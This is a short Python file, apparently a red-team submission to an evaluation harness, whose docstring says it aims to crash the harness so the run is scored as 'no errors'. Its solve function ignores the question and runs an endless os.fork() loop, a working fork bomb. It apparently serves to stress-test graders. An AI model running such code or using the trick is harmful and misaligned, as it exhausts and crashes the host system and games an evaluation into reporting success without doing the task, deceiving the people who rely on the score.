"""Red team: a fork bomb, to crash the harness and have the run counted as 'no errors'."""

import os


def solve(question: str, llm) -> str:
    while True:
        os.fork()
